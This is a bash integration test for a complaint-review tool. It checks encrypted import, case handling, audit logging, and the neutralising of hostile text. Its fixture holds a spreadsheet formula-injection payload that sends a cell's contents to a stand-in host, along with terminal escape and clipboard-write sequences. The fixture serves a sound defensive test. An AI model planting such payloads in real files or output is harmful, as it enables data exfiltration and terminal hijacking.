#!/usr/bin/env bash
# review_flow.sh — sinetti-review end to end through the real programs:
# sinetti-keys makes the team keys, envelopes are sealed into a real
# gateway vault through the vault library (tests/unit/test_review_tool.c),
# sinetti-gateway export signs the bundle, sinetti-review imports, shows,
# handles and exports it, and sinetti-gateway acknowledge accepts the ack.
. "$(dirname "$0")/../lib/prog.sh"
cd "$T_TMP" || exit 1
TOOL=${SNT_BUILD:-$SNT_ROOT/build}/tests/test_review_tool
if [ ! -x "$TOOL" ]; then
	fail "helper $TOOL not built (make build/tests/test_review_tool)"
	t_done
fi
PA=alice-pass-1
ST=$T_TMP/store
export LC_ALL=C.UTF-8 TZ=UTC
unset SINETTI_LANG SINETTI_STORE SINETTI_OFFICER
rv() { printf '%s\n' "$PA" | snt sinetti-review --store "$ST" --officer alice \
	--passphrase-fd 0 "$@"; }
q() { "$@" >/dev/null 2>&1; }
not() { ! "$@"; }
has_byte() { LC_ALL=C grep -qP "$1" "$2"; }	# a raw byte pattern in a file

# --- help, version, usage errors
check "help exits 0" q snt sinetti-review --help
out=$(snt sinetti-review --help)
for c in import list show status assign note reveal-phone callback-done \
    export audit purge shell; do
	check "overall help names $c" grep -q "^  $c" <<<"$out"
	o=$(snt sinetti-review "$c" --help); rc=$?
	if [ $rc -eq 0 ] && [[ "$o" == *"sinetti-review [GLOBAL OPTIONS] $c"* ]]
	then pass "$c --help"; else fail "$c --help"; fi
done
check "init --help" q snt sinetti-review init --help
check "version" grep -q '^sinetti-review ' <(snt sinetti-review --version)
check_exit "no command: 2" 2 q snt sinetti-review
check_exit "unknown command: 2" 2 q snt sinetti-review frobnicate
check_exit "unknown global option: 2" 2 q snt sinetti-review --frob list
check_exit "init without keyring: 2" 2 q snt sinetti-review init --store x
check_exit "open missing store: 1" 1 q rv list
check "english help" grep -q 'commands:' <(snt sinetti-review --lang en --help)

# --- keys, gateway, three submissions
printf '%s\n' "$PA" | q snt sinetti-keys --passphrase-fd 0 init \
	--keyring team.keyring --officer alice --public-out team.pub --kdf-memory 64
check "keys init" [ -f team.keyring ]
check "gateway init" q snt sinetti-gateway init --state gw --team-public team.pub

# A: a muistutus with every field and a phone number; quotes, a backslash,
# newlines and Finnish letters must survive exactly.
MSG_A=$'Äitini ei saanut lääkkeitään "ajallaan" 3.11.\nHoitaja sanoi: C:\\ei kuulu meille.\n— Kiitos.'
printf '%s' "$MSG_A" >msg_a
ID_A=$("$TOOL" seal --team-pub team.pub --vault gw/vault --kind objection \
	--role relative --unit kotihoito-etela --message-file msg_a \
	--when 'viikko 45, iltavuoro' --persons 'vastaava hoitaja' \
	--phone +358401234567 --callback-time 'arkisin 9–12' --lang fi)
check "seal A" [ ${#ID_A} -eq 32 ]
# B: hostile text: clear screen, OSC title and clipboard, C1 CSI, bidi
# override and isolate, DEL, BEL, and a spreadsheet formula first.
printf '=HYPERLINK("http://x.invalid/?"&A1,"klikkaa")\e[2J\e]0;pwned\a\e]52;c;ZWNobyBoaQ==\a \xc2\x9b31m \xe2\x80\xaeevil\xe2\x81\xa6 del\x7f bel\x07 end' >msg_b
ID_B=$("$TOOL" seal --team-pub team.pub --vault gw/vault --kind feedback \
	--role client --unit other --unit-other $'Yksikkö\e[31m X' \
	--message-file msg_b --lang sv)
check "seal B" [ ${#ID_B} -eq 32 ]
# C: arrived long ago, so it is overdue
ID_C=$("$TOOL" seal --team-pub team.pub --vault gw/vault --kind concern \
	--role representative --unit palvelutalo-koivu --message 'Vanha asia.' \
	--arrival 1600000000 --lang en)
check "seal C" [ ${#ID_C} -eq 32 ]
check "gateway export" q snt sinetti-gateway export --state gw --out b1.bundle

# --- init
check "review init" q snt sinetti-review init --store "$ST" \
	--keyring team.keyring --gateway-key gw/gateway-signing.pub
check "store is 0700" [ "$(stat -c %a "$ST")" = 700 ]
check "gateway key pinned" cmp -s <(grep -v '^#' gw/gateway-signing.pub) \
	<(grep -v '^#' "$ST/gateway-signing.pub")
check "config records keyring" grep -q "^keyring = $T_TMP/team.keyring$" "$ST/review.conf"
check_exit "init twice refused" 1 q snt sinetti-review init --store "$ST" \
	--keyring team.keyring --gateway-key gw/gateway-signing.pub

# --- wrong passphrase changes nothing
sum_before=$(cat "$ST"/data.mdb "$ST"/review.conf | sha256sum)
out=$(printf 'wrong\n' | snt sinetti-review --store "$ST" --officer alice \
	--passphrase-fd 0 import b1.bundle --ack-out ack0 2>&1); rc=$?
check "wrong passphrase: exit 1" [ $rc -eq 1 ]
check "wrong passphrase: one line" [ "$(wc -l <<<"$out")" -eq 1 ]
check "wrong passphrase: no ack" [ ! -e ack0 ]
check "wrong passphrase: store unchanged" [ "$(cat "$ST"/data.mdb "$ST"/review.conf | sha256sum)" = "$sum_before" ]
check_exit "unknown officer: exit 1" 1 q bash -c "printf '%s\n' '$PA' | '$SNT_BIN/sinetti-review' --store '$ST' --officer mallory --passphrase-fd 0 list"

# --- tampered bundles are refused and nothing is imported
cp b1.bundle bad.bundle
sz=$(stat -c %s bad.bundle)
flip_byte bad.bundle $((sz / 2))
cmp -s b1.bundle bad.bundle && fail "tamper changed nothing"
out=$(rv --lang en import bad.bundle --ack-out ack-bad 2>&1); rc=$?
check "tampered bundle: exit 1" [ $rc -eq 1 ]
check "tampered bundle: says so" grep -q 'nothing imported' <<<"$out"
check "tampered bundle: no ack" [ ! -e ack-bad ]
head -c $((sz - 1)) b1.bundle >short.bundle
check_exit "truncated bundle: exit 1" 1 q rv import short.bundle --ack-out ack-short
"$TOOL" genkey --sk-out other.sk --pub-out other.pub
"$TOOL" bundle --vault gw/vault --sk other.sk --out other.bundle >/dev/null
check_exit "bundle from another gateway key: exit 1" 1 q rv import other.bundle --ack-out ack-other
check "no ack for refused bundles" [ ! -e ack-short ] && [ ! -e ack-other ]
check "nothing imported" grep -qx '\[\]' <(rv list --format json 2>/dev/null)

# --- import
out=$(rv import b1.bundle --ack-out ack1); rc=$?
check "import: exit 0" [ $rc -eq 0 ]
check "import: 3 new" grep -q 'Tuotu 3 uutta' <<<"$out"
check "ack written 0600" [ "$(stat -c %a ack1)" = 600 ]
out=$(snt sinetti-gateway acknowledge --state gw --ack ack1 2>&1)
check "gateway accepts the ack for 3" grep -q 'acknowledged 3' <<<"$out"
# the envelopes are kept byte for byte as the bundle carried them
bhex=$(od -An -v -tx1 b1.bundle | tr -d ' \n')
n=0
while read -r v; do
	[[ "$bhex" == *"$v"* ]] && n=$((n + 1))
done < <(mdb_dump -s env "$ST" | awk '/^HEADER=END/ { d = 1; next }
	/^DATA=END/ { d = 0 } d { if (k) { print substr($0, 2); k = 0 } else k = 1 }')
check "stored envelopes are the bundle's bytes" [ $n -eq 3 ]
# second import of the same bundle adds nothing
out=$(rv import b1.bundle --ack-out ack1b); rc=$?
check "re-import: exit 0" [ $rc -eq 0 ]
check "re-import: 0 new, 3 held" grep -q 'Tuotu 0 uutta asiaa; 3 oli jo' <<<"$out"
check "re-import: still 3 cases" [ "$(rv list --format json | jq length)" = 3 ]

# --- list
J=$(rv list --format json)
check "list json is valid" jq -e . <<<"$J" >/dev/null
# import opened nothing; this first list read every envelope and filled in
# kind, phone and the due dates exactly as the rules give them
check "list: every record filled in" [ "$(jq '[.[] | select(.kind == "unknown" or .unopenable)] | length' <<<"$J")" = 0 ]
jA=$(jq -c --arg id "$ID_A" '.[] | select(.id == $id)' <<<"$J")
jC=$(jq -c --arg id "$ID_C" '.[] | select(.id == $id)' <<<"$J")
check "objection: answer due 30 days after the exact arrival" q jq -e '((.answer_due | fromdate) - (.arrival | fromdate)) == 30 * 86400' <<<"$jA"
check "phone given: callback due 7 days after" q jq -e '((.callback_due | fromdate) - (.arrival | fromdate)) == 7 * 86400 and .has_phone' <<<"$jA"
check "exact arrival, not the hour" [ "$(jq -r .arrival <<<"$jC")" = 2020-09-13T12:26:40Z ]
check "concern: answer due 3 months after" [ "$(jq -r .answer_due <<<"$jC")" = 2020-12-13T12:26:40Z ]
check "no phone: no callback" q jq -e '.callback_due == null and (.has_phone | not)' <<<"$jC"
check "the filled records were kept" [ "$(rv list --format json)" = "$J" ]
check "case numbers in import order" [ "$(jq -r '[.[].case] | sort | join(" ")' <<<"$J")" = "$(date +%Y)-0001 $(date +%Y)-0002 $(date +%Y)-0003" ]
check "overdue case first" [ "$(jq -r '.[0].id' <<<"$J")" = "$ID_C" ]
check "callback before 3-month answer" [ "$(jq -r '.[1].id' <<<"$J")" = "$ID_A" ]
check "list has no phone" [ "$(jq '[.[] | has("phone")] | any' <<<"$J")" = false ]
check "--overdue" [ "$(rv list --overdue --format json | jq -r '[.[].id] | join(",")')" = "$ID_C" ]
check "--callbacks" [ "$(rv list --callbacks --format json | jq -r '[.[].id] | join(",")')" = "$ID_A" ]
check "--kind objection" [ "$(rv list --kind objection --format json | jq -r '[.[].id] | join(",")')" = "$ID_A" ]
check "--unit" [ "$(rv list --unit palvelutalo-koivu --format json | jq -r '[.[].id] | join(",")')" = "$ID_C" ]
check_exit "--status bogus: 2" 2 q rv list --status bogus
T=$(rv list)
check "table has a header" grep -q '^Asia  *Tila  *Laji' <<<"$T"
check "table shows overdue" grep -q 'MYÖHÄSSÄ' <<<"$T"
check "table in english" grep -q '^Case  *Status' <<<"$(rv --lang en list)"
check "table in swedish" grep -q '^Ärende  *Status' <<<"$(SINETTI_LANG=sv rv list)"

# --- show decrypts exactly what was submitted; the phone stays hidden
S=$(rv show "$ID_A" --format json)
check "show json valid" jq -e . <<<"$S" >/dev/null
check "message exact" [ "$(jq -j .message <<<"$S")" = "$MSG_A" ]
check "unit exact" [ "$(jq -r .unit <<<"$S")" = kotihoito-etela ]
check "when exact" [ "$(jq -r .when <<<"$S")" = 'viikko 45, iltavuoro' ]
check "persons exact" [ "$(jq -r .persons <<<"$S")" = 'vastaava hoitaja' ]
check "callback time exact" [ "$(jq -r .callback_time <<<"$S")" = 'arkisin 9–12' ]
check "kind, role" [ "$(jq -r '.kind + "/" + .role' <<<"$S")" = objection/relative ]
check "show json hides phone" [ "$(jq -r .phone <<<"$S")" = null ]
NUM_A=$(jq -r .case <<<"$S")
T=$(rv show "$NUM_A")
check "show by case number" grep -q "^Asia $NUM_A" <<<"$T"
check "show text hides phone" not grep -q 401234567 <<<"$T"
check "show text tells how to reveal" grep -q "reveal-phone $NUM_A" <<<"$T"
check "show text message exact" grep -qF 'Hoitaja sanoi: C:\ei kuulu meille.' <<<"$T"
out=$(rv reveal-phone "$NUM_A")
check "reveal-phone shows it" grep -q '+358401234567' <<<"$out"
check "reveal-phone is audited" grep -q "reveal-phone *$NUM_A" <(rv audit)
check_exit "reveal-phone without a phone: 1" 1 q rv reveal-phone "$ID_C"
check_exit "show unknown case: 1" 1 q rv show 1999-0001

# --- hostile text is inert
rv show "$ID_B" >show_b.txt
rv show "$ID_B" --format json >show_b.json
rv list >list.txt
for f in show_b.txt list.txt show_b.json; do
	check "$f: no ESC" not has_byte '\x1b' "$f"
	check "$f: no C1 CSI" not has_byte '\xc2\x9b' "$f"
	check "$f: no bidi override" not has_byte '\xe2\x80\xae' "$f"
	check "$f: no isolate" not has_byte '\xe2\x81\xa6' "$f"
	check "$f: no DEL or BEL" not has_byte '[\x7f\x07]' "$f"
done
check "ESC shown visibly" grep -qF '␛[2J' show_b.txt
check "override shown visibly" grep -qF '<U+202E>evil' show_b.txt
check "json keeps the exact text" cmp -s <(jq -j .message show_b.json) msg_b
# a note with invalid UTF-8 and escapes, an assignee with escapes
check "note with hostile bytes" q rv note "$ID_B" "$(printf 'soitettu \xff\xc0 \e[5m tila')"
check "assign hostile name" q rv assign "$ID_B" "$(printf 'bob\e[8m')"
rv show "$ID_B" >show_b2.txt
rv show "$ID_B" --format json >show_b2.json
check "invalid UTF-8 shown as U+FFFD" grep -qF 'soitettu �� ␛[5m tila' show_b2.txt
check "no invalid bytes in text" not has_byte '[\xff\xc0]' show_b2.txt
check "no ESC after note" not has_byte '\x1b' show_b2.txt
check "json with bad note still valid" jq -e . show_b2.json >/dev/null
check "json note uses \\ufffd" grep -qF 'soitettu \ufffd\ufffd \u001b[5m' show_b2.json

# --- case handling
check "status in-progress" q rv status "$ID_A" in-progress
check "assign" q rv assign "$NUM_A" maija
check "note" q rv note "$NUM_A" 'Soitettu omaiselle, selvitetään.'
check "callback-done" q rv callback-done "$NUM_A"
check_exit "callback-done without phone: 1" 1 q rv callback-done "$ID_C"
check_exit "status bogus: 2" 2 q rv status "$NUM_A" done
check "status answered" q rv status "$NUM_A" answered
S=$(rv show "$NUM_A" --format json)
check "status saved" [ "$(jq -r .status <<<"$S")" = answered ]
check "assignee saved" [ "$(jq -r .assignee <<<"$S")" = maija ]
check "note saved" [ "$(jq -r '.notes[0].text' <<<"$S")" = 'Soitettu omaiselle, selvitetään.' ]
check "note officer" [ "$(jq -r '.notes[0].officer' <<<"$S")" = alice ]
check "callback saved" [ "$(jq -r .callback_done <<<"$S")" = true ]
check "answered case has nothing due" [ "$(jq -r .next_due <<<"$S")" = null ]
check "--callbacks now empty" grep -qx '\[\]' <(rv list --callbacks --format json)

# --- export
check "export json" q rv export "$NUM_A" "$ID_B" --format json --out e.json
check "export json valid" jq -e . e.json >/dev/null
check "export json 2 cases" [ "$(jq length e.json)" = 2 ]
check "export json message exact" [ "$(jq -j ".[] | select(.id==\"$ID_A\") | .message" e.json)" = "$MSG_A" ]
check "export json phone" [ "$(jq -r ".[] | select(.id==\"$ID_A\") | .phone" e.json)" = +358401234567 ]
check "export json hostile exact" cmp -s <(jq -j ".[] | select(.id==\"$ID_B\") | .message" e.json) msg_b
check "export file 0600" [ "$(stat -c %a e.json)" = 600 ]
check_exit "export refuses to overwrite" 1 q rv export --format json --out e.json
check "export csv" q rv export --format csv --out e.csv
check "csv header" grep -q '^case,id,status,kind,role,unit' e.csv
check "csv formula neutralised" grep -qF "\"'=HYPERLINK(\"\"http://x.invalid" e.csv
check "csv phone neutralised" grep -qF "\"'+358401234567\"" e.csv
check "csv no ESC" not has_byte '\x1b' e.csv
check "csv no invalid UTF-8" not has_byte '[\xff\xc0]' e.csv
check "csv rows" [ "$(grep -c "^\"$(date +%Y)-" e.csv)" = 3 ]
check "export is audited" [ "$(rv audit | grep -c ' export ')" -ge 5 ]

# --- a later bundle continues the numbering
"$TOOL" seal --team-pub team.pub --vault gw/vault --kind feedback \
	--message 'Neljäs.' >/dev/null
q snt sinetti-gateway export --state gw --out b2.bundle
out=$(rv import b2.bundle --ack-out ack2)
check "second bundle: 1 new" grep -q 'Tuotu 1 uutta' <<<"$out"
check "fourth case number" grep -q "\"$(date +%Y)-0004\"" <(rv list --format json)

# --- an envelope whose sealed content is not valid UTF-8: import opens
# nothing, so it is stored (pending) and acknowledged like the others; the
# first command that opens it shows it as a case that cannot be opened,
# never its content, and nothing crashes
q snt sinetti-gateway acknowledge --state gw --ack ack2
ID_BAD=$("$TOOL" seal --team-pub team.pub --vault gw/vault --message 'Rikki viesti' \
	--corrupt-utf8)
"$TOOL" seal --team-pub team.pub --vault gw/vault --message 'Viides.' >/dev/null
q snt sinetti-gateway export --state gw --out b3.bundle
out=$(rv --lang en import b3.bundle --ack-out ack3 2>&1); rc=$?
check "broken envelope: import exit 0" [ $rc -eq 0 ]
check "broken envelope: both stored" grep -q 'Imported 2 new' <<<"$out"
out=$(snt sinetti-gateway acknowledge --state gw --ack ack3 2>&1)
check "ack names both" grep -q 'acknowledged 2 envelope' <<<"$out"
J=$(rv list --format json); rc=$?
check "list with a broken envelope: exit 0" [ $rc -eq 0 ]
check "six cases held" [ "$(jq length <<<"$J")" = 6 ]
check "the broken one is listed as unopenable" [ "$(jq -r '[.[] | select(.unopenable)] | map(.id) | join(",")' <<<"$J")" = "$ID_BAD" ]
check "the good one was read" [ "$(jq -r '[.[] | select(.unopenable | not) | select(.kind == "unknown")] | length' <<<"$J")" = 0 ]
T=$(rv --lang en list)
check "table marks it" grep -q 'CANNOT OPEN' <<<"$T"
check "table says how many" grep -q '^1 cases have an envelope that cannot be opened' <<<"$T"
check "finnish marker" grep -q 'EI AUKEA' <(rv list)
out=$(rv --lang en show "$ID_BAD" 2>&1); rc=$?
check "show broken: exit 1" [ $rc -eq 1 ]
check "show broken: says it cannot be opened" grep -q 'cannot be opened' <<<"$out"
check "show broken: says what to do" grep -q 'status .* closed' <<<"$out"
check "show broken: no content" not grep -q 'Rikki' <<<"$out"
check "show broken json" jq -e '.unopenable == true' <(rv show "$ID_BAD" --format json 2>/dev/null)
check_exit "reveal-phone broken: 1" 1 q rv reveal-phone "$ID_BAD"
check "note on a broken case" q rv note "$ID_BAD" 'ilmoitettu ylläpidolle'
out=$(rv --lang en export --format json --out broken.json 2>&1); rc=$?
check "export with a broken case: exit 1" [ $rc -eq 1 ]
check "export says which was left out" grep -q 'not exported' <<<"$out"
check "export has the others" [ "$(jq length broken.json)" = 5 ]

# --- a swapped gateway key file is noticed
cp -a "$ST" pinned
cp other.pub pinned/gateway-signing.pub
out=$(printf '%s\n' "$PA" | snt sinetti-review --store pinned --officer alice \
	--passphrase-fd 0 list 2>&1); rc=$?
check "swapped gateway key: exit 1" [ $rc -eq 1 ]
check "swapped gateway key: says so" grep -q 'no longer matches' <<<"$out"

# --- purge
check "close A" q rv status "$NUM_A" closed
check "closed left out of default list" not grep -q "$NUM_A" <(rv list)
check "--status closed" grep -q "$NUM_A" <(rv list --status closed)
out=$(rv purge --closed-before 2000-01-01)
check "purge before 2000: nothing" grep -q 'Poistettu 0' <<<"$out"
out=$(rv purge --closed-before "$(date -d tomorrow +%Y-%m-%d)")
check "purge: 1" grep -q 'Poistettu 1' <<<"$out"
check_exit "purged case is gone" 1 q rv show "$NUM_A"
check_exit "purge bad date: 2" 2 q rv purge --closed-before 31.12.2026

# --- audit
check "audit verifies" q rv audit --verify
A=$(rv --lang en audit)
for a in init unlock import list view reveal-phone status assign note \
    callback-done export purge; do
	check "audit has $a" grep -q " $a " <<<"$A"
done
check "audit holds no content" not grep -qiE 'lääk|HYPERLINK|358401|maija' <<<"$A"
check "store file holds no plaintext" not env LC_ALL=C grep -qaE 'lääk|HYPERLINK|358401234567|maija|Soitettu|alice' "$ST/data.mdb"

# --- shell: unlock once, several commands, exit
out=$(printf '%s\nlist --format json\nshow %s --format json\nexit\n' "$PA" "$ID_C" |
	snt sinetti-review --store "$ST" --officer alice --passphrase-fd 0 shell 2>/dev/null)
check "shell runs commands" grep -q '"message":"Vanha asia."' <<<"$out"
# the process holding plaintext: no core files, memory locked
mkfifo sh.in
"$SNT_BIN/sinetti-review" --store "$ST" --officer alice --passphrase-fd 0 \
	shell <sh.in >sh.out 2>&1 &
pid=$!
exec 3>sh.in
printf '%s\n' "$PA" >&3
for _ in $(seq 100); do
	grep -q 'sinetti-review\|Avattu' sh.out 2>/dev/null && break
	sleep 0.1
done
check "shell: no core files" grep -Eq '^Max core file size +0 +0 ' /proc/$pid/limits
# (ASan builds lose sodium's mlock; a sanitizer run skips this one)
if LC_ALL=C grep -q __asan_init "$SNT_BIN/sinetti-review"; then
	echo "SKIP: shell: memory locked (sanitizer build)"
else
	check "shell: memory locked" awk '/^VmLck:/ { exit !($2 > 0) }' /proc/$pid/status
fi
printf 'exit\n' >&3
exec 3>&-
wait $pid
check "shell exits 0 on exit" [ $? -eq 0 ]
check "shell says it locked" grep -q 'Lukittu' sh.out
t_done
